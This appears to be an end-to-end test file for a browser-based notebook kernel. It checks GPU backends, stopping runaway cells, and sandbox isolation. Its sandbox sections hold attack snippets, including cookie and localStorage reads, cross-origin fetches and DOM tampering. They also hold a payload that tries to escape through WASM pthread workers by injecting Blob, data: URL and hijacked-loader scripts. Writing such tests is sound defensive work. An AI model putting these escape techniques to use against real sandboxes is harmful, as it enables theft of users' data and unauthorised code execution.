// The kernel in a real browser: cells run in the sandboxed worker on WebGPU and WebGL, a stop
// ends an infinite loop within a second without freezing the page, attack cells fail, and a
// training loop streams live chart updates.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { launchBrowser, serveDist, openKernelHarness } from './browser.mjs';

let site;
let browser;
let page;
const consoleErrors = [];

before(async () => {
  site = await serveDist(process.env.E2E_DIST_DIR ?? '.cache/e2e-dist');
  browser = await launchBrowser();
  page = await browser.context.newPage();
  page.on('console', (m) => m.type() === 'error' && consoleErrors.push(m.text()));
  await openKernelHarness(page, site.url);
});

after(async () => {
  await browser?.close();
  await site?.close();
});

const run = (code) => page.evaluate((c) => window.harness.run(c), code);
const valueOf = (r) => r.outputs.filter((o) => o.kind === 'value').map((o) => o.text);
const errorOf = (r) => r.outputs.find((o) => o.kind === 'error');

for (const backend of ['webgpu', 'webgl']) {
  describe(`cells on ${backend}`, () => {
    it('starts on that backend and runs library code', async () => {
      const status = await page.evaluate((b) => window.harness.start(b), backend);
      assert.equal(status.backend, backend, `fell back: ${JSON.stringify(status.fallbacks)}`);
      const r = await run('const x = nd.array([[1, 2], [3, 4]]);\nconst w = nd.ones([2, 1]);\nnd.dot(x, w)');
      assert.equal(r.done.status, 'ok', JSON.stringify(r.outputs));
      assert.equal(valueOf(r)[0], `[[3.]\n [7.]]\n<NDArray 2x1 @${backend}(0)>`);
      const g = await run('w.attachGrad();\nautograd.record(() => nd.dot(x, w).sum()).backward();\nawait w.grad.toArray()');
      assert.deepEqual(valueOf(g), ['[[4], [6]]']);
    });
  });
}

describe('stop', () => {
  it('stops a synchronous infinite loop within a second; the page stays responsive', async () => {
    await page.evaluate(() => window.harness.start('wasm'));
    await run('const survivor = 42;');
    const result = await page.evaluate(async () => {
      const h = window.harness;
      const started = performance.now();
      const donePromise = h.run('let n = 0;\nwhile (true) { n++; }');
      await new Promise((r) => setTimeout(r, 300));
      // The page must still answer while the kernel spins.
      const t = performance.now();
      await new Promise((r) => setTimeout(r, 0));
      const pageLatency = performance.now() - t;
      const stopAt = performance.now();
      const how = await h.interrupt();
      const done = await donePromise;
      return { how, status: done.done.status, stopMs: performance.now() - stopAt, pageLatency, total: performance.now() - started };
    });
    assert.ok(result.stopMs < 1000, `stop took ${result.stopMs} ms`);
    assert.ok(result.pageLatency < 50, `page blocked for ${result.pageLatency} ms`);
    if (result.how === 'interrupted') {
      assert.deepEqual(valueOf(await run('survivor')), ['42']); // soft interrupt kept the state
    } else {
      assert.equal(result.how, 'restarted');
      assert.ok((await page.evaluate(() => window.harness.resets.length)) > 0);
    }
    console.log(`stop: ${result.how} in ${result.stopMs.toFixed(0)} ms (cross-origin isolated: ${await page.evaluate(() => window.harness.crossOriginIsolated)})`);
  });

  it('no main-thread long task over 50 ms while a training cell runs', async () => {
    await page.evaluate(() => window.harness.start('wasm'));
    const longest = await page.evaluate(async () => {
      const tasks = [];
      const obs = new PerformanceObserver((list) => tasks.push(...list.getEntries().map((e) => e.duration)));
      obs.observe({ type: 'longtask', buffered: false });
      const r = await window.harness.run(`const W = nd.random.normal(0, 0.01, [784, 10]);
W.attachGrad();
const anim = new d2l.Animator({ legend: ['loss'] });
for (let i = 0; i < 60; i++) {
  const X = nd.random.normal(0, 1, [64, 784]);
  const l = autograd.record(() => nd.dot(X, W).square().mean());
  l.backward();
  W.subInPlace(W.grad.mul(0.1));
  anim.add(i, [await l.asScalar()]);
}`);
      obs.disconnect();
      return { status: r.done.status, charts: r.chartUpdates, longest: Math.max(0, ...tasks) };
    });
    assert.equal(longest.status, 'ok');
    assert.ok(longest.charts >= 2, `live chart updates: ${longest.charts}`);
    assert.ok(longest.longest <= 50, `longest main-thread task ${longest.longest} ms`);
  });
});

describe('sandbox: attack cells fail', () => {
  const attacks = {
    'read localStorage': 'localStorage.getItem("handson-edits")',
    'open IndexedDB': 'await new Promise((res, rej) => { const r = indexedDB.open("x"); r.onsuccess = () => res("opened"); r.onerror = () => rej(r.error); })',
    'open Cache Storage': 'await caches.open("x")',
    'read cookies': 'document.cookie',
    'fetch another origin': 'await (await fetch("https://example.com/")).text()',
    'fetch via XMLHttpRequest': 'const q = new XMLHttpRequest(); q.open("GET", "https://example.com/"); q.send(); "sent"',
    'importScripts': 'importScripts("https://example.com/x.js")',
    'dynamic import from another origin': 'await import("https://example.com/x.js")',
    'nested worker': 'new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))',
    'touch parent': 'parent.document.body.innerHTML = "pwned"',
    'touch top': 'top.location.href = "https://example.com/"',
    'open a window': 'open("https://example.com/")',
    'navigate': 'location.assign("https://example.com/")',
    'recover IndexedDB from the prototype': 'Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, "indexedDB").get.call(self).open("x")',
    'open the origin private file system': 'await navigator.storage.getDirectory()',
    'fetch the site through a new realm': 'await new SharedWorker("data:text/javascript,1")',
  };
  before(async () => {
    await page.evaluate(() => localStorage.setItem('handson-edits', 'the reader\'s work'));
    await page.evaluate(() => window.harness.start('webgpu'));
  });
  for (const [name, code] of Object.entries(attacks)) {
    it(name, async () => {
      const r = await run(code);
      assert.equal(r.done.status, 'error', `${name} did not fail: ${JSON.stringify(r.outputs)}`);
    });
  }
  it('the page and its storage are untouched, and WebGPU still works in the kernel', async () => {
    assert.equal(await page.evaluate(() => localStorage.getItem('handson-edits')), 'the reader\'s work');
    assert.equal(await page.evaluate(() => document.body.innerHTML.includes('pwned')), false);
    const r = await run('mx.currentContext().toString()');
    assert.deepEqual(valueOf(r), ["'webgpu(0)'"]);
  });
});

// With WASM threads (a cross-origin isolated host, StartRequest.wasmThreads), a cell can reach
// the pthread workers (tfjs's engine -> emscripten's PThread) and post them anything. Each attack
// tries to run the cell's own script outside the kernel's lockdown, there to fetch, open
// IndexedDB and post a secret back; each must get no answer. The pthread workers' own lockdown
// is written into their script at build time (src/build/pthread-lockdown.ts); the Worker class
// behind their instances is orphaned by the kernel's (src/kernel/sandbox/lockdown.ts).
describe('sandbox with WASM threads: attack cells cannot run code in or beside the pthread workers', () => {
  // What the attacker's script does wherever it gets to run: network, storage, a secret back
  // (in a pthread worker, it also stubs the module factory the 'load' calls next, which would
  // throw on the fake load and show up in the cell as an error).
  const PAYLOAD = `self.WasmBackendModuleThreadedSimd = () => undefined;
(async () => {
  const r = { pwned: "the reader's secret", fetch: typeof fetch, indexedDB: typeof indexedDB };
  try { r.fetched = (await fetch(location.origin + '/')).status; } catch (e) { r.fetched = String(e); }
  try { r.opened = await new Promise((res, rej) => { const q = indexedDB.open('pwned'); q.onsuccess = () => res('opened'); q.onerror = () => rej(q.error); }); } catch (e) { r.opened = String(e); }
  postMessage(r);
})();`;
  // Cell prelude (inside the cell's one async function: cells share top-level names): the
  // pthread workers, the payload, and `answers(w, send)`: what comes back from worker `w` within
  // 3 s after `send()` carrying the payload's mark.
  const PRELUDE = `const PT = self._tfengine.registry.wasm.wasm.PThread;
const workers = [...PT.unusedWorkers, ...PT.runningWorkers];
if (workers.length === 0) throw new Error('no pthread workers: threads did not start');
const payload = ${JSON.stringify(PAYLOAD)};
const payloadBlob = () => new Blob([payload], { type: 'text/javascript' });
const load = (urlOrBlob) => ({ cmd: 'load', handlers: [], urlOrBlob, wasmMemory: new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }), wasmModule: null });
async function answers(w, send) {
  const got = [];
  const listen = (e) => { if (e.data && e.data.pwned) got.push(e.data); };
  w.addEventListener('message', listen);
  try { send(); } catch (e) { got.push({ threw: String(e) }); }
  await new Promise((r) => setTimeout(r, 3000));
  w.removeEventListener('message', listen);
  return got.filter((a) => !a.threw);
}
`;
  // Each ends the cell's async function: returns what answered.
  const attacks = {
    "a 'load' with the cell's script as a Blob": 'return answers(workers[0], () => workers[0].postMessage(load(payloadBlob())));',
    "a 'load' with a data: URL": 'return answers(workers[1], () => workers[1].postMessage(load("data:text/javascript," + encodeURIComponent(payload))));',
    "a 'load' with a same-origin (blob:) URL, to every worker": `const each = await Promise.all(workers.map((w) => answers(w, () => w.postMessage(load(URL.createObjectURL(payloadBlob()))))));
return each.flat();`,
    'a Worker recovered from a pthread worker instance (its constructor)': `const got = [];
for (const C of [workers[0].constructor, Object.getPrototypeOf(workers[0]).constructor]) {
  let w;
  try { w = new C(URL.createObjectURL(payloadBlob())); } catch { continue; }
  if (typeof w.addEventListener === 'function') got.push(...(await answers(w, () => undefined)));
}
return got;`,
    "emscripten's pool starting a new pthread worker from the cell's script": `self._tfengine.registry.wasm.wasm.locateFile = () => URL.createObjectURL(payloadBlob());
const known = PT.unusedWorkers.length;
try { PT.allocateUnusedWorker(); } catch {}
const got = [];
for (const w of PT.unusedWorkers.slice(known)) got.push(...(await answers(w, () => undefined)));
return got;`,
  };
  before(async () => {
    const status = await page.evaluate(() => window.harness.start('wasm', { wasmThreads: null }));
    assert.equal(status.backend, 'wasm', JSON.stringify(status.fallbacks));
    assert.ok(status.wasm.threads >= 2, `threads did not start, so nothing is attacked: ${JSON.stringify(status.wasm)}`);
  });
  for (const [name, code] of Object.entries(attacks)) {
    it(name, async () => {
      const r = await run(`await (async () => {\n${PRELUDE}const got = await (async () => {\n${code}\n})();\nreturn got.length === 0 ? 'no answer' : JSON.stringify(got);\n})()`);
      assert.equal(r.done.status, 'ok', JSON.stringify(r.outputs));
      assert.deepEqual(valueOf(r), ["'no answer'"], `${name}: the cell's script ran and answered: ${JSON.stringify(r.outputs)}`);
    });
  }
  it('threads still compute right after the attacks', async () => {
    const r = await run(`const a = nd.random.uniform(-1, 1, [97, 203]), b = nd.random.uniform(-1, 1, [203, 121]);
const got = await nd.dot(a, b).toArray(), av = await a.toArray(), bv = await b.toArray();
let worst = 0;
for (let i = 0; i < 97; i++) for (let j = 0; j < 121; j++) { let s = 0; for (let t = 0; t < 203; t++) s += av[i][t] * bv[t][j]; worst = Math.max(worst, Math.abs(s - got[i][j])); }
worst < 1e-3`);
    assert.deepEqual(valueOf(r), ['true'], JSON.stringify(r.outputs));
  });
});
